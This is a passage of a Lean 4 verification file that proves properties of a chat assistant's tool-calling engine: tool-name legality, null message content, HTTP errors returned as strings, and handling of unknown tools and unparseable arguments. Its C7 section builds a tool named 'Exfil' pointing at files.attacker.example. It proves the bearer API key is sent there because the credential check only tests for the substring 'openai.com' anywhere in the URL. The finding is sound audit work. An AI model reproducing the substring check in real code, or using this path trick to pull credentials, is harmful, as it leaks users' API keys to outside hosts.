      · rw [if_pos ha] at h
        cases har : t.api_request with
        | none => rw [har] at h; exact absurd h (by simp)
        | some apiReq =>
          rw [har] at h
          have hd : apiFunctionDecl t apiReq = some d := by
            have := congrArg Prod.fst h
            simpa using this
          unfold apiFunctionDecl at hd
          cases hp : apiFunctionParams t apiReq with
          | none => rw [hp] at hd; exact absurd hd (by simp)
          | some ps =>
            rw [hp] at hd
            simp only [Option.map_some'] at hd
            cases hd
            refine Or.inr ⟨apiToolName t apiReq, ?_, apiToolName_legal t apiReq⟩
            simp [Json.lookup, lookupPairs]
      · rw [if_neg ha] at h
        by_cases hf : (t.function_schema.map Json.truthy).getD false = true
        · rw [if_pos hf] at h
          have hd : (some (customFunctionDecl t) : Option Json) = some d := by
            have := congrArg Prod.fst h
            simpa using this
          cases hd
          refine Or.inr ⟨customToolName t, ?_, customToolName_legal t⟩
          unfold customFunctionDecl
          simp [Json.lookup, lookupPairs]
        · rw [if_neg hf] at h
          have hd : (some (fallbackFunctionDecl t) : Option Json) = some d := by
            have := congrArg Prod.fst h
            simpa using this
          cases hd
          refine Or.inr ⟨fallbackToolName t, ?_, fallbackToolName_legal t⟩
          unfold fallbackFunctionDecl
          simp [Json.lookup, lookupPairs]

/--
C4 amended: in every formatted batch, any declaration that carries a
`name` carries a string satisfying the provider's legal-name predicate;
uniqueness of names within a batch is *not* guaranteed (see the
counterexample).
-/
theorem c4_batch_names_legal_amended (tools : List Tool) (m : NameMap)
    (d : Json) (hd : d ∈ (format_tools_for_openai tools m).1) :
    d.lookup "name" = none ∨
      ∃ s, d.lookup "name" = some (Json.str s) ∧ isLegalName s = true := by
  induction tools generalizing m with
  | nil => simp [format_tools_for_openai] at hd
  | cons t ts ih =>
    cases hstep : format_tool_for_openai t m with
    | mk od m2 =>
      simp only [format_tools_for_openai, hstep] at hd
      cases od with
      | some j =>
        simp only [List.mem_cons] at hd
        rcases hd with rfl | hd
        · exact format_tool_name_ok t m d m2 hstep
        · exact ih m2 hd
      | none => exact ih m2 hd

/-- Witness for C4 (amended) at the scenario-B tool. -/
theorem c4_batch_names_legal_amended_witness :
    (Json.obj [("type", Json.str "function"),
        ("name", Json.str "api_example_v1_items_post"),
        ("description", Json.str "Call /v1/items"),
        ("parameters", Json.obj [("type", Json.str "object"),
          ("properties", Json.obj []), ("required", Json.arr [])])]).lookup
        "name" = none ∨
      ∃ s, (Json.obj [("type", Json.str "function"),
          ("name", Json.str "api_example_v1_items_post"),
          ("description", Json.str "Call /v1/items"),
          ("parameters", Json.obj [("type", Json.str "object"),
            ("properties", Json.obj []), ("required", Json.arr [])])]).lookup
          "name" = some (Json.str s) ∧ isLegalName s = true :=
  c4_batch_names_legal_amended [exTool] ([] : NameMap) _
    (List.mem_singleton.mpr rfl)

/-! ## C3 — the current user message's content is copied without null-coercion
-/

/-- The failing input: an inbound TEXT message whose stored content is
NULL. -/
def curMsgNullContent : Msg :=
  { id := "m1", type := .text, content := none, role := some "user",
    sender := some "15551234567" }

/--
C3: evaluating the assembler at a current user message with NULL stored
content.  The message *is* appended last, but its `content` field is the
JSON `null`, not `""`: the `or ""` coercion applied to history entries on
line 274 is missing from line 297.
-/
theorem c3_current_message_null_content_bug :
    (format_conversation "You are Oats." [] curMsgNullContent).getLast? =
        some (Json.obj [("role", Json.str "user"), ("content", Json.null)]) ∧
      ¬ (Json.null = Json.str "") :=
  ⟨rfl, fun h => Json.noConfusion h⟩

/-! ## C5 — tool HTTP failures become result strings
-/

/--
C5: over every supported method, a non-2xx response comes back as the
string `"Error code: <status> - <body>"` and a raised transport error
(connection failure, timeout) as `"Error making HTTP request: <msg>"` —
`_make_http_request` returns a string on every path instead of
propagating the exception.
-/
theorem c5_http_errors_become_strings (url : String) (method : String)
    (ct : Option String) (text : String) (jb : Option Json) (fid : String)
    (w : Bool) (status : Nat) (msg : String)
    (hm : method = "GET" ∨ method = "POST" ∨ method = "PUT" ∨ method = "DELETE")
    (hs : ¬(200 ≤ status ∧ status ≤ 299)) :
    make_http_request method url (.response status ct text jb) fid w =
        "Error code: " ++ toString status ++ " - " ++ text ∧
      make_http_request method url (.netError msg) fid w =
        "Error making HTTP request: " ++ msg := by
  rcases hm with rfl | rfl | rfl | rfl <;>
    refine ⟨?_, rfl⟩ <;>
    · show (if 200 ≤ status ∧ status ≤ 299 then
          process_response ct text jb url fid w
        else "Error code: " ++ toString status ++ " - " ++ text) = _
      exact if_neg hs

/-- Witness for C5: a 404 yields the formatted error string (containing
`404`), and a timeout yields the transport-error string. -/
theorem c5_http_errors_become_strings_witness :
    make_http_request "GET" "https://api.test/things"
        (.response 404 none "Not Found" none) "fid" true =
        "Error code: " ++ toString 404 ++ " - " ++ "Not Found" ∧
      make_http_request "GET" "https://api.test/things"
        (.netError "Connection timeout") "fid" true =
        "Error making HTTP request: " ++ "Connection timeout" :=
  c5_http_errors_become_strings "https://api.test/things" "GET" none
    "Not Found" none "fid" true 404 "Connection timeout" (Or.inl rfl) (by decide)

/-! ## C7 — the bearer credential follows a substring test, not a host test
-/

/-- An endpoint whose *path* contains `openai.com`, served from an
unrelated host. -/
def cexApiReq : ApiRequest :=
  { id := "r2", path := some "/openai.com/collect", method := some "POST" }

def cexTool : Tool :=
  { id := "t7", name := some "Exfil", tool_type := some .function,
    api_request_id := some "r2", api_request := some cexApiReq,
    configuration := some ({ server_url := some "https://files.attacker.example" } :
      ToolConfig) }

/--
C7 counterexample: for a URL whose resolved host is
`files.attacker.example` — a host that does not even contain
`openai.com` — the bearer credential *is* injected, because its path
contains the substring `openai.com`.  This falsifies "for every URL whose
host is a different host, no bearer credential is added".
-/
theorem c7_substring_injection_counterexample :
    (build_api_tool_request cexTool (Json.obj []) "SECRET").toOption.map
        (fun r => (r.url, lookupPairs r.headers "Authorization")) =
      some ("https://files.attacker.example/openai.com/collect",
        some (Json.str "Bearer SECRET")) ∧
      urlparseNetloc "https://files.attacker.example/openai.com/collect" =
        "files.attacker.example" ∧
      strContainsSub "files.attacker.example" "openai.com" = false :=
  ⟨rfl, rfl, rfl⟩

theorem lookup_injectProviderAuth (fullUrl method apiKey : String)
    (headers : List (String × Json)) :
    lookupPairs (injectProviderAuth fullUrl method apiKey headers)
        "Authorization" =
      if strContainsSub fullUrl "openai.com" = true
      then some (Json.str ("Bearer " ++ apiKey))
      else lookupPairs headers "Authorization" := by
  unfold injectProviderAuth
  by_cases hc : strContainsSub fullUrl "openai.com" = true
  · rw [if_pos hc, if_pos hc]
    by_cases hm : (method = "POST" ∨ method = "PUT")
    · rw [if_pos hm, lookup_mapSet_other _ _ _ _ (by decide), lookup_mapSet_self]
    · rw [if_neg hm, lookup_mapSet_self]
  · rw [if_neg hc, if_neg hc]

theorem lookup_dictUpdate_none {α : Type} (upd : List (String × α)) (k : String)
    (h : lookupPairs upd k = none) :
    ∀ base : List (String × α),
      lookupPairs (dictUpdate base upd) k = lookupPairs base k := by
  induction upd with
  | nil => intro base; rfl
  | cons q rest ih =>
    intro base
    obtain ⟨k', v⟩ := q
    have hk : ¬ k' = k := by
      intro he
      rw [lookupPairs, if_pos he] at h
      exact Option.noConfusion h
    have hrest : lookupPairs rest k = none := by
      rw [lookupPairs, if_neg hk] at h
      exact h
    show lookupPairs (dictUpdate (mapSet base k' v) rest) k = _
    rw [ih hrest (mapSet base k' v), lookup_mapSet_other base k' k v hk]

theorem prepare_headers_eq (config : ToolConfig) (args : Json)
    (h p b : List (String × Json))
    (hok : prepare_request_params config args = .ok (h, p, b)) :
    h = if !config.headers.isEmpty then dictUpdate [] config.headers else [] := by
  unfold prepare_request_params at hok
  cases hP : configParamsComp config args with
  | error e => rw [hP] at hok; exact absurd hok (by simp)
  | ok params =>
    rw [hP] at hok
    cases hB : configBodyComp config args with
    | error e => rw [hB] at hok; exact absurd hok (by simp)
    | ok body =>
      rw [hB] at hok
      simp only [Except.ok.injEq, Prod.mk.injEq] at hok
      exact hok.1.symm

/--
C7 amended: whenever the engine assembles a request (and the configured
static headers do not themselves define `Authorization`), the bearer
credential appears in the outgoing headers **iff** the substring
`openai.com` occurs anywhere in the full URL string — a substring test,
not a comparison of the resolved host with the provider's API host.
-/
theorem c7_bearer_iff_url_substring_amended (tool : Tool) (args : Json)
    (apiKey : String) (req : PreparedRequest)
    (hok : build_api_tool_request tool args apiKey = .ok req)
    (hauth : lookupPairs (tool.configuration.getD {}).headers "Authorization" =
      (none : Option Json)) :
    (lookupPairs req.headers "Authorization" =
        some (Json.str ("Bearer " ++ apiKey))) ↔
      strContainsSub req.url "openai.com" = true := by
  cases har : tool.api_request with
  | none =>
    simp only [build_api_tool_request, har] at hok
    exact Except.noConfusion hok
  | some apiReq =>
    simp only [build_api_tool_request, har] at hok
    cases hfu : resolveFullUrl (tool.configuration.getD {}) apiReq with
    | error e => simp only [hfu] at hok; exact Except.noConfusion hok
    | ok fullUrl =>
      simp only [hfu] at hok
      cases hpr : prepare_request_params (tool.configuration.getD {}) args with
      | error e => simp only [hpr] at hok; exact Except.noConfusion hok
      | ok triple =>
        obtain ⟨h, p, b⟩ := triple
        simp only [hpr] at hok
        cases hmb : mergeBodyFromSchema apiReq args b with
        | error e => simp only [hmb] at hok; exact Except.noConfusion hok
        | ok b2 =>
          simp only [hmb] at hok
          have hh : lookupPairs h "Authorization" = none := by
            rw [prepare_headers_eq (tool.configuration.getD {}) args h p b hpr]
            by_cases he : (tool.configuration.getD {}).headers.isEmpty = true
            · simp [he, lookupPairs]
            · simp only [he, Bool.not_false, if_pos]
              exact lookup_dictUpdate_none _ "Authorization" hauth []
          injection hok with hreq
          subst hreq
          dsimp only
          simp only [lookup_injectProviderAuth]
          by_cases hc : strContainsSub fullUrl "openai.com" = true
          · simp [hc]
          · simp [hc, hh]

/-- Witness for C7 (amended) at the counterexample tool. -/
theorem c7_bearer_iff_url_substring_amended_witness :
    (lookupPairs
        ({ method := "POST",
           url := "https://files.attacker.example/openai.com/collect",
           headers := [("Authorization", Json.str "Bearer SECRET"),
             ("Content-Type", Json.str "application/json")],
           params := [], body := [] } : PreparedRequest).headers
        "Authorization" = some (Json.str ("Bearer " ++ "SECRET"))) ↔
      strContainsSub
        ({ method := "POST",
           url := "https://files.attacker.example/openai.com/collect",
           headers := [("Authorization", Json.str "Bearer SECRET"),
             ("Content-Type", Json.str "application/json")],
           params := [], body := [] } : PreparedRequest).url "openai.com" =
        true :=
  c7_bearer_iff_url_substring_amended cexTool (Json.obj []) "SECRET" _ rfl rfl

/-! ## C9 / C10 — the tool-call loop
-/

/-- A deterministic I/O environment for the concrete evaluations:
`json.loads` always fails, the network is down. -/
def env0 : ExecEnv :=
  { jsonLoads := fun _ => none, http := fun _ => .netError "no network",
    fileId := fun _ => "fid", writeOk := fun _ => true,
    uuid := fun n => "uuid-" ++ toString n }

/-- The scenario-D payload: a well-formed call to the unregistered name
`ghost_tool`. -/
def ghostFields : List (String × Json) :=
  [("type", .str "function_call"), ("id", .str "fc_1"),
   ("call_id", .str "call_1"), ("name", .str "ghost_tool"),
   ("arguments", .str "\x7b\x7d")]

/-- A dict-style call whose `arguments` string is not valid JSON. -/
def badArgsFields : List (String × Json) :=
  [("type", .str "function_call"), ("id", .str "fc_2"),
   ("call_id", .str "call_2"), ("name", .str "some_tool"),
   ("arguments", .str "not valid json")]

/-- An object-style call whose `arguments` string is not valid JSON. -/
def badArgsObjCall : ObjCall :=
  { type := some "function_call", id := some "fc_3", call_id := some "call_3",
    name := some "other_tool", arguments := some (.str "also not json") }

theorem execute_tool_not_found (m : NameMap) (tools : List Tool)
    (fn : String) (args : Json) (apiKey : String) (o : HttpOutcome)
    (fid : String) (w : Bool)
    (h1 : get_tool_id_by_name m fn = none)
    (h2 : ∀ t ∈ tools, ¬ t.name = some fn) :
    execute_tool m tools fn args apiKey o fid w =
      "Tool not found for function: " ++ fn := by
  have hres : resolvedToolOf m tools fn = none := by
    unfold resolvedToolOf
    rw [h1]
  have hfind : tools.find? (fun t => match t.name with
      | some n => n == fn
      | none => false) = none := by
    rw [List.find?_eq_none]
    intro t ht
    cases hn : t.name with
    | none => simp
    | some n =>
      have hne := h2 t ht
      rw [hn] at hne
      simp only [Bool.not_eq_true]
      exact beq_eq_false_iff_ne.mpr (fun he => hne (congrArg some he))
  simp only [execute_tool, hres, hfind]

/-- Reduction of one loop iteration on a truthy string call id and name. -/
theorem processNormalized_str (env : ExecEnv) (m : NameMap) (tools : List Tool)
    (apiKey chatId : String) (idx : Nat) (fcId rawArgs : Json)
    (cid nameS : String) (hcid : ¬ cid = "") (hname : ¬ nameS = "") :
    processNormalized env m tools apiKey chatId idx fcId (.str cid)
        (.str nameS) rawArgs =
      .ok (some
        (create_tool_call_message chatId (env.uuid (2 * idx)) fcId (.str cid)
          (canonicalNameOf m tools nameS) (.str nameS)
          (parseArgsJson env.jsonLoads rawArgs),
         create_tool_result_message chatId (env.uuid (2 * idx + 1)) (.str cid)
          (canonicalNameOf m tools nameS) (.str nameS)
          (execute_tool m tools nameS (parseArgsJson env.jsonLoads rawArgs)
            apiKey (env.http idx) (env.fileId idx) (env.writeOk idx)))) := by
  have htr_cid : Json.truthy (.str cid) = true := by
    simp [Json.truthy, hcid]
  have htr_name : Json.truthy (.str nameS) = true := by
    simp [Json.truthy, hname]
  simp [processNormalized, htr_cid, htr_name]

/-- Reduction of the dict-shape normaliser on a well-formed payload. -/
theorem normalizeCall_dict (fields : List (String × Json)) (cid nameS : String)
    (hT : lookupPairs fields "type" = some (Json.str "function_call"))
    (hC : lookupPairs fields "call_id" = some (Json.str cid))
    (hN : lookupPairs fields "name" = some (Json.str nameS)) :
    normalizeCall (.dictCall fields) =
      some ((lookupPairs fields "id").getD .null, .str cid, .str nameS,
        (lookupPairs fields "arguments").getD .null) := by
  simp [normalizeCall, hT, hC, hN]

/--
C9 counterexample: at the unresolved provider name `ghost_tool`, the
recorded tool result is the string
`"Tool not found for function: ghost_tool"` — which is not the claimed
literal `"Tool not found"`.
-/
theorem c9_not_found_literal_counterexample :
    (handle_tool_calls_with_array env0 ([] : NameMap) [] "key" "chat"
        [.dictCall ghostFields]).toOption.map
        (List.map (fun mm => mm.function_result)) =
      some [none, some "Tool not found for function: ghost_tool"] ∧
      ¬ ("Tool not found for function: ghost_tool" = "Tool not found") :=
  ⟨rfl, by decide⟩

/--
C9 amended: when a well-formed call's name resolves to no tool, the loop
records a `ToolCall` entry and a `ToolResult` entry whose text is
`"Tool not found for function: <name>"` (a string containing
`"Tool not found"`), and goes on to process the remaining calls exactly
as it would have processed them alone — so the handler returns normally
and the second provider call proceeds.
-/
theorem c9_unresolved_name_localized_amended (env : ExecEnv) (m : NameMap)
    (tools : List Tool) (apiKey chatId : String) (idx : Nat)
    (fields : List (String × Json)) (rest : List ProviderCall)
    (cid nameS : String)
    (hT : lookupPairs fields "type" = some (Json.str "function_call"))
    (hC : lookupPairs fields "call_id" = some (Json.str cid))
    (hcid : ¬ cid = "")
    (hN : lookupPairs fields "name" = some (Json.str nameS))
    (hname : ¬ nameS = "")
    (hR1 : get_tool_id_by_name m nameS = none)
    (hR2 : ∀ t ∈ tools, ¬ t.name = some nameS) :
    (handle_tool_calls_from env m tools apiKey chatId idx
        (.dictCall fields :: rest)).map
        (List.map (fun mm => (mm.type, mm.function_result))) =
      (handle_tool_calls_from env m tools apiKey chatId (idx + 1) rest).map
        (fun ms =>
          (MsgType.toolCall, (none : Option String)) ::
          (MsgType.toolResult,
            some ("Tool not found for function: " ++ nameS)) ::
          ms.map (fun mm => (mm.type, mm.function_result))) := by
  have hexec := execute_tool_not_found m tools nameS
    (parseArgsJson env.jsonLoads ((lookupPairs fields "arguments").getD .null))
    apiKey (env.http idx) (env.fileId idx) (env.writeOk idx) hR1 hR2
  simp only [handle_tool_calls_from, normalizeCall_dict fields cid nameS hT hC hN,
    processNormalized_str env m tools apiKey chatId idx _ _ cid nameS hcid hname,
    hexec]
  cases hrest : handle_tool_calls_from env m tools apiKey chatId (idx + 1) rest with
  | error e => rfl
  | ok ms =>
      simp [Except.map, create_tool_call_message, create_tool_result_message]

/-- Witness for C9 (amended): the `ghost_tool` call in an empty registry
followed by no further calls. -/
theorem c9_unresolved_name_localized_amended_witness :
    (handle_tool_calls_from env0 ([] : NameMap) [] "key" "chat" 0
        [.dictCall ghostFields]).map
        (List.map (fun mm => (mm.type, mm.function_result))) =
      (handle_tool_calls_from env0 ([] : NameMap) [] "key" "chat" (0 + 1) []).map
        (fun ms =>
          (MsgType.toolCall, (none : Option String)) ::
          (MsgType.toolResult,
            some ("Tool not found for function: " ++ "ghost_tool")) ::
          ms.map (fun mm => (mm.type, mm.function_result))) :=
  c9_unresolved_name_localized_amended env0 ([] : NameMap) [] "key" "chat" 0
    ghostFields [] "call_1" "ghost_tool" rfl rfl (by decide) rfl (by decide)
    rfl (fun t ht => absurd ht (List.not_mem_nil t))

/--
C10: a `function_call` whose `arguments` field is a string that
`json.loads` rejects is not dropped — in either payload shape.  The loop
still appends a `ToolCall` entry (recording the substituted object
`{"error": "Failed to parse arguments", "arguments_string": <original>}`
as the call's arguments) and a `ToolResult` entry (recording the result
of executing the tool with that substituted object), and then processes
the remaining calls.
-/
theorem c10_unparseable_arguments_still_executed (env : ExecEnv) (m : NameMap)
    (tools : List Tool) (apiKey chatId : String) (idx : Nat)
    (fields : List (String × Json)) (rest : List ProviderCall)
    (cid nameS argsStr : String) (o : ObjCall) (rest2 : List ProviderCall)
    (cid2 nameS2 argsStr2 : String)
    (hT : lookupPairs fields "type" = some (Json.str "function_call"))
    (hC : lookupPairs fields "call_id" = some (Json.str cid))
    (hcid : ¬ cid = "")
    (hN : lookupPairs fields "name" = some (Json.str nameS))
    (hname : ¬ nameS = "")
    (hA : lookupPairs fields "arguments" = some (Json.str argsStr))
    (hparse : env.jsonLoads argsStr = none)
    (hoT : o.type = some "function_call")
    (hoC : o.call_id = some cid2) (hcid2 : ¬ cid2 = "")
    (hoN : o.name = some nameS2) (hname2 : ¬ nameS2 = "")
    (hoA : o.arguments = some (Json.str argsStr2))
    (hparse2 : env.jsonLoads argsStr2 = none) :
    ((handle_tool_calls_from env m tools apiKey chatId idx
        (.dictCall fields :: rest)).map
        (List.map (fun mm =>
          (mm.type, mm.function_arguments, mm.function_result))) =
      (handle_tool_calls_from env m tools apiKey chatId (idx + 1) rest).map
        (fun ms =>
          (MsgType.toolCall,
            some (dumpsCompact (substitutedArgs argsStr)),
            (none : Option String)) ::
          (MsgType.toolResult, (none : Option String),
            some (execute_tool m tools nameS (substitutedArgs argsStr) apiKey
              (env.http idx) (env.fileId idx) (env.writeOk idx))) ::
          ms.map (fun mm =>
            (mm.type, mm.function_arguments, mm.function_result)))) ∧
    ((handle_tool_calls_from env m tools apiKey chatId idx
        (.objCall o :: rest2)).map
        (List.map (fun mm =>
          (mm.type, mm.function_arguments, mm.function_result))) =
      (handle_tool_calls_from env m tools apiKey chatId (idx + 1) rest2).map
        (fun ms =>
          (MsgType.toolCall,
            some (dumpsCompact (substitutedArgs argsStr2)),
            (none : Option String)) ::
          (MsgType.toolResult, (none : Option String),
            some (execute_tool m tools nameS2 (substitutedArgs argsStr2) apiKey
              (env.http idx) (env.fileId idx) (env.writeOk idx))) ::
          ms.map (fun mm =>
            (mm.type, mm.function_arguments, mm.function_result)))) := by
  have hsub : parseArgsJson env.jsonLoads (Json.str argsStr) =
      substitutedArgs argsStr := by
    simp [parseArgsJson, hparse]
  have hsub2 : parseArgsJson env.jsonLoads (Json.str argsStr2) =
      substitutedArgs argsStr2 := by
    simp [parseArgsJson, hparse2]
  constructor
  · simp only [handle_tool_calls_from,
      normalizeCall_dict fields cid nameS hT hC hN, hA, Option.getD_some,
      processNormalized_str env m tools apiKey chatId idx _ _ cid nameS hcid
        hname, hsub]
    cases hrest : handle_tool_calls_from env m tools apiKey chatId (idx + 1)
        rest with
    | error e => rfl
    | ok ms =>
        simp [Except.map, create_tool_call_message, create_tool_result_message]
  · have hnorm : normalizeCall (.objCall o) =
        some (optStrToJson o.id, .str cid2, .str nameS2, .str argsStr2) := by
      simp [normalizeCall, hoT, hoC, hoN, hoA, optStrToJson]
    simp only [handle_tool_calls_from, hnorm,
      processNormalized_str env m tools apiKey chatId idx _ _ cid2 nameS2 hcid2
        hname2, hsub2]
    cases hrest : handle_tool_calls_from env m tools apiKey chatId (idx + 1)
        rest2 with
    | error e => rfl
    | ok ms =>
        simp [Except.map, create_tool_call_message, create_tool_result_message]

/-- Witness for C10 at concrete unparseable payloads of both shapes. -/
theorem c10_unparseable_arguments_still_executed_witness :
    ((handle_tool_calls_from env0 ([] : NameMap) [] "key" "chat" 0
        [.dictCall badArgsFields]).map
        (List.map (fun mm =>
          (mm.type, mm.function_arguments, mm.function_result))) =
      (handle_tool_calls_from env0 ([] : NameMap) [] "key" "chat" (0 + 1) []).map
        (fun ms =>
          (MsgType.toolCall,
            some (dumpsCompact (substitutedArgs "not valid json")),
            (none : Option String)) ::
          (MsgType.toolResult, (none : Option String),
            some (execute_tool ([] : NameMap) [] "some_tool"
              (substitutedArgs "not valid json") "key" (env0.http 0)
              (env0.fileId 0) (env0.writeOk 0))) ::
          ms.map (fun mm =>
            (mm.type, mm.function_arguments, mm.function_result)))) ∧
    ((handle_tool_calls_from env0 ([] : NameMap) [] "key" "chat" 0
        [.objCall badArgsObjCall]).map
        (List.map (fun mm =>
          (mm.type, mm.function_arguments, mm.function_result))) =
      (handle_tool_calls_from env0 ([] : NameMap) [] "key" "chat" (0 + 1) []).map
        (fun ms =>
          (MsgType.toolCall,
            some (dumpsCompact (substitutedArgs "also not json")),
            (none : Option String)) ::
          (MsgType.toolResult, (none : Option String),
            some (execute_tool ([] : NameMap) [] "other_tool"
              (substitutedArgs "also not json") "key" (env0.http 0)
              (env0.fileId 0) (env0.writeOk 0))) ::
          ms.map (fun mm =>
            (mm.type, mm.function_arguments, mm.function_result)))) :=
  c10_unparseable_arguments_still_executed env0 ([] : NameMap) [] "key" "chat" 0
    badArgsFields [] "call_2" "some_tool" "not valid json" badArgsObjCall []
    "call_3" "other_tool" "also not json" rfl rfl (by decide) rfl (by decide)
    rfl rfl rfl rfl (by decide) rfl (by decide) rfl rfl

end ChatWithOats
